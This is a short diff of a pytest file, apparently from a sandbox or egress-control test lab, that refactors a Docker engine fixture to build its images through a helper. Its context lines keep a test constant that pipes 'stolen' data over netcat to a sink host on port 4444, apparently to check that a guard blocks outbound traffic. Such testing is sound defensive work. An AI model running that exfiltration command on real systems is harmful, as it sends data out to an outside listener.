@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from lab import plan
-from lab.engine import INSIDE4, MACHINE, SANDGATE, Engine, engine
+from lab.engine import INSIDE4, MACHINE, SANDGATE, Engine, engine_with_images
 from lab.guarded import (
     DIRECTLY,
     WITH_ATTACKS,
@@ -33,9 +33,7 @@ TO_SINK = ("/bin/sh", "-c", f"echo stolen | nc -w 2 {plan.SINK4} 4444")
 
 @pytest.fixture(scope="module")
 def docker(net: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
-    with engine(net, tmp_path_factory.mktemp("engine"), plan.DNS4) as made:
-        made.make_sandgate_image()
-        made.make_machine_image()
+    with engine_with_images(net, tmp_path_factory.mktemp("engine"), plan.DNS4) as made:
         yield made
 
 
